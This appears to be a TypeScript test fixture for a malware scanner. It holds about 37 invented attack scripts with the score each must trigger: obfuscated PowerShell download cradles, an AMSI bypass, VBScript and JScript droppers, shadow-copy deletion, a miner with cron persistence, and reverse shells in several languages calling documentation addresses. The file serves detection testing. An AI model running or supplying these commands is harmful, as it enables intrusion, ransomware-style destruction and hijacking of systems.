// Scripts as attackers write them, made up for tests: words are cut by `¦` so that no scanner takes this file for one, and
// addresses are those of documentation.

import type { Language } from '../../scan-object.ts'

interface SuspiciousScript {
  readonly title: string
  /** As its container says it; otherwise it is told from the text. */
  readonly language?: Language
  readonly name: string
  /** The score that it must reach. */
  readonly least: number
  readonly text: string
}

const whole = (text: string): string => text.replaceAll('¦', '')
const base64 = (text: string): string => Buffer.from(whole(text)).toString('base64')
const wide = (text: string): string => Buffer.from(whole(text), 'utf16le').toString('base64')

export const suspiciousScripts: readonly SuspiciousScript[] = [
  {
    title: 'PowerShell, encoded, in a hidden window',
    language: 'batch',
    name: 'Heuristic.Script.Batch',
    least: 90,
    text: whole(
      `power¦shell -nop -w hidden -enc ${wide(`I¦EX (New-Object Net.WebClient).Downloa¦dString('http://203.0.113.7/a.ps1')`)}`,
    ),
  },
  {
    title: 'a cradle in pieces and variables',
    name: 'Heuristic.Script.PowerShell',
    least: 80,
    text: whole(
      `$c = 'Down'+'loadStr'+'ing'\n&('i'+'ex') ((New-Object Net.WebClient).$c('http://203.0.113.7/x'))`,
    ),
  },
  {
    title: 'names put together by the format operator',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 80,
    text: whole(
      `&("{1}{0}" -f 'X','IE') (&("{0}{2}{1}"-f'New-O','ect','bj') ("{1}{0}"-f'bClient','Net.We')).("{0}{1}"-f'Downl','oadString').Invoke('http://203.0.113.7/a')`,
    ),
  },
  {
    title: 'characters by number',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 75,
    text: whole(
      `iex ([char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,120,39,41) -join '')`,
    ),
  },
  {
    title: 'AMSI switched off',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 90,
    text: whole(
      `[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'si¦Ut'+'ils').GetField('am'+'siInit¦Failed','NonPublic,Static').SetValue($null,$true)\nI¦EX (iwr http://203.0.113.7/b)`,
    ),
  },
  {
    title: 'a program loaded from memory',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 75,
    text: whole(
      `$b=[Convert]::FromBase¦64String($s)\n[Refle¦ction.Assembly]::Load($b).EntryPoint.Invoke($null,$null)`,
    ),
  },
  {
    title: 'downloads, writes and runs',
    language: 'vbscript',
    name: 'Heuristic.Script.VBScript',
    least: 90,
    text: whole(
      `Set x = CreateObject("MSX¦ML2.XMLHTTP")\nx.Open "GET", "http://203.0.113.7/a.exe", False\nx.Send\nSet s = CreateObject("AD¦ODB.Stream")\ns.Type=1\ns.Open\ns.Write x.responseBody\ns.SaveT¦oFile "c:\\users\\public\\a.exe",2\nCreateObject("WSc¦ript.Shell").Run "c:\\users\\public\\a.exe"`,
    ),
  },
  {
    title: 'names backwards and by number',
    name: 'Heuristic.Script.VBScript',
    least: 90,
    text: whole(
      `Dim a\na = StrRe¦verse("llehS.¦tpircSW")\nSet o = CreateObject(a)\no.Run Chr(112) & Chr(111) & "wers¦hell -w hidden -c iex(iwr http://203.0.113.7/q)", 0`,
    ),
  },
  {
    title: 'code run from a string',
    language: 'vbscript',
    name: 'Heuristic.Script.VBScript',
    least: 85,
    text: whole(
      `Execute(Chr(83)&Chr(101)&"t o=CreateObject(""WSc¦ript.Shell""):o.Run ""ms¦hta http://203.0.113.7/a.hta"",0")`,
    ),
  },
  {
    title: 'names in pieces',
    name: 'Heuristic.Script.JavaScript',
    least: 90,
    text: whole(
      `var s = new Active¦XObject("WScr"+"ipt.Sh"+"ell"); var x = new Active¦XObject("MSX¦ML2.XMLHTTP"); x.open("GET","http://203.0.113.7/a.exe",0); x.send(); var d = new Active¦XObject("AD¦ODB.Stream"); d.Open(); d.Type=1; d.Write(x.responseBody); d.SaveT¦oFile(s.ExpandEnvironmentStrings("%TEMP%")+"/a.exe",2); s.Run("%TEMP%/a.exe");`,
    ),
  },
  {
    title: 'names in hexadecimal escapes',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 85,
    text: whole(
      `var _0x=["\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c","\\x52\\x75\\x6e"];var q=new Active¦XObject(_0x[0]);q[_0x[1]]("\\x70\\x6f\\x77\\x65\\x72\\x73\\x68\\x65\\x6c\\x6c -w hidden -c \\"iwr http://203.0.113.7/a -o a.exe\\"",0)`,
    ),
  },
  {
    title: 'eval of characters by number',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 90,
    text: whole(
      `eval(String.fromCh¦arCode(${Array.from(whole(`new Active¦XObject("WSc¦ript.Shell").Run("cmd /c power¦shell -w hidden iex(iwr http://203.0.113.7)")`), (letter) => letter.charCodeAt(0)).join(',')}))`,
    ),
  },
  {
    title: 'a name reversed',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 85,
    text: whole(
      `var a="llehS.¦tpircSW".split("").reverse().join("");var w=new Active¦XObject(a);w.Run("ms¦hta http://203.0.113.7/x.hta",0);`,
    ),
  },
  {
    title: 'a shortcut smuggled in a page',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 80,
    text: whole(
      `var d="${Buffer.concat([Buffer.from('L\0\0\0\x01\x14\x02'), Buffer.alloc(3000, 65)]).toString('base64')}";var b=atob(d);var n=new Uint8Array(b.length);for(var i=0;i<b.length;i++)n[i]=b.charCodeAt(i);var u=URL.createO¦bjectURL(new Blob([n]));var a=document.createElement('a');a.href=u;a.download='Invoice.lnk';a.click();`,
    ),
  },
  {
    title: 'a command in variables',
    name: 'Heuristic.Script.Batch',
    least: 90,
    text: whole(`@echo off\nset a=pow\nset b=ers¦hell\n%a%%b% -w hidden -c "iex(iwr http://203.0.113.7/a)"`),
  },
  {
    title: 'a command in pieces of a variable and carets',
    name: 'Heuristic.Script.Batch',
    least: 75,
    text: whole(
      `@echo off\nset "x=hsabcdefgijklmnopqrtuvwyz"\n%x:~15,1%o^w^e^r^s^h^e^l^l -nop -w hidden -c "(New-Object Net.WebClient).Downlo¦adFile('http://203.0.113.7/a.exe','%TEMP%\\a.exe')"&start %TEMP%\\a.exe`,
    ),
  },
  {
    title: 'no restore',
    name: 'Heuristic.Script.Batch',
    least: 90,
    text: whole(
      `@echo off\nvssa¦dmin delete shadows /all /quiet\nbcd¦edit /set {default} recoveryenabled no\nwmic shado¦wcopy delete`,
    ),
  },
  {
    title: 'certutil downloads',
    name: 'Heuristic.Script.Batch',
    least: 80,
    text: whole(
      `cert¦util -urlc¦ache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe`,
    ),
  },
  {
    title: 'a scriptlet',
    language: 'batch',
    name: 'Heuristic.Script.Batch',
    least: 90,
    text: whole(`regs¦vr32 /s /n /u /i:http://203.0.113.7/a.sct scr¦obj.dll`),
  },
  {
    title: 'a reverse shell without a first line',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(`bash -i >& /dev¦/tcp/203.0.113.7/443 0>&1`),
  },
  {
    title: 'a named pipe',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(`#!/bin/sh\nrm /tmp/f;mkf¦ifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f`),
  },
  {
    title: 'a bot for any folder',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(
      `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/mi¦ps; chmod +x mi¦ps; ./mi¦ps; rm -rf mi¦ps\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/mpsl; chmod 777 mpsl; ./mpsl`,
    ),
  },
  {
    title: 'a miner that wants the computer for itself',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(
      `#!/bin/bash\npk¦ill -f kin¦sing\npk¦ill -f xm¦rig\nhistory -c\ncurl -fsSL http://203.0.113.7/xm¦rig -o /tmp/.x/xmr && chmod +x /tmp/.x/xmr\n/tmp/.x/xmr -o str¦atum+tcp://pool.test:3333 -u wallet --donate-level 1 &\n(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.7/x.sh | bash") | crontab -`,
    ),
  },
  {
    title: 'base64 piped to a shell',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(
      `#!/bin/bash\necho ${base64(`bash -i >& /dev¦/tcp/203.0.113.7/443 0>&1`)} | base64 -d | bash`,
    ),
  },
  {
    title: 'eval of base64',
    name: 'Heuristic.Script.Shell',
    least: 80,
    text: whole(
      `#!/bin/bash\neval "$(echo ${base64(`curl http://203.0.113.7/x | sh; chmod +x /tmp/.y; /tmp/.y &`)} | base64 -d)"`,
    ),
  },
  {
    title: 'a reverse shell in Python',
    name: 'Heuristic.Script.Python',
    least: 90,
    text: whole(
      `import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.7",443))\nos.du¦p2(s.fileno(),0)\nos.du¦p2(s.fileno(),1)\np=subprocess.call(["/bin/sh","-i"])`,
    ),
  },
  {
    title: 'exec of base64',
    name: 'Heuristic.Script.Python',
    least: 90,
    text: whole(
      `import base64\nexec(base64.b64decode("${base64(`import socket,os\ns=socket.socket()\ns.connect(("203.0.113.7",1))\nos.du¦p2(s.fileno(),0)\nos.system("/bin/sh")\n`)}"))`,
    ),
  },
  {
    title: 'Python in one line of a shell',
    language: 'shell',
    name: 'Heuristic.Script.Shell',
    least: 90,
    text: whole(
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",1));[os.du¦p2(s.fileno(),f) for f in(0,1,2)];pty.¦spawn("sh")'`,
    ),
  },
  {
    title: 'a reverse shell in Perl',
    name: 'Heuristic.Script.Perl',
    least: 90,
    text: whole(
      `#!/usr/bin/perl\nuse Soc¦ket;$i="203.0.113.7";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`,
    ),
  },
  {
    title: 'a reverse shell in Ruby',
    name: 'Heuristic.Script.Ruby',
    least: 60,
    text: whole(
      `#!/usr/bin/ruby\nrequire 'socket'\nc=TCPSoc¦ket.new("203.0.113.7","1")\nwhile(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`,
    ),
  },
  {
    title: 'a reverse shell in Node',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 90,
    text: whole(
      `(function(){var net=require("net"),cp=require("child_¦process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Soc¦ket();client.connect(1,"203.0.113.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();`,
    ),
  },
  {
    title: 'a reverse shell in PowerShell',
    name: 'Heuristic.Script.PowerShell',
    least: 90,
    text: whole(
      `$client = New-Object System.Net.Soc¦kets.TCPC¦lient('203.0.113.7',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}`,
    ),
  },
  {
    title: 'an exclusion, then a download',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 80,
    text: whole(
      `Add-MpPref¦erence -ExclusionPath C:\\\nInvoke-WebRequest http://203.0.113.7/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe`,
    ),
  },
  {
    title: 'the command of a shortcut',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 75,
    text: whole(
      `power¦shell.exe -w 1 -c "iwr http://203.0.113.7/a.hta -outfile $env:tmp\\a.hta; ms¦hta $env:tmp\\a.hta"`,
    ),
  },
  {
    title: 'compressed code run',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 70,
    text: whole(
      `$s=New-Object IO.MemoryStream(,[Convert]::FromBase¦64String("H4sIAAAAAAAA"));I¦EX (New-Object IO.StreamReader(New-Object IO.Compression.GzipS¦tream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`,
    ),
  },
  {
    title: 'machine code run',
    language: 'powershell',
    name: 'Heuristic.Script.PowerShell',
    least: 85,
    text: whole(
      `[DllI¦mport("kernel32.dll")] Virtua¦lAlloc\n[DllI¦mport("kernel32.dll")] Create¦Thread\n$x = [Convert]::FromBase¦64String("/EiD5PDowAAAAEFRQVA=")\n[System.Runtime.InteropServices.Marshal]::Copy($x,0,$p,1)`,
    ),
  },
  {
    title: 'a packer',
    language: 'javascript',
    name: 'Heuristic.Script.JavaScript',
    least: 80,
    text: whole(
      `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}('0 1=2 3("4.5");1.6("7 8://9/10.11",0)',12,12,'var|s|new|Active¦XObject|WSc¦ript|Shell|Run|ms¦hta|http|evil.test|a|hta'.split('|'),0,{}))`,
    ),
  },
]
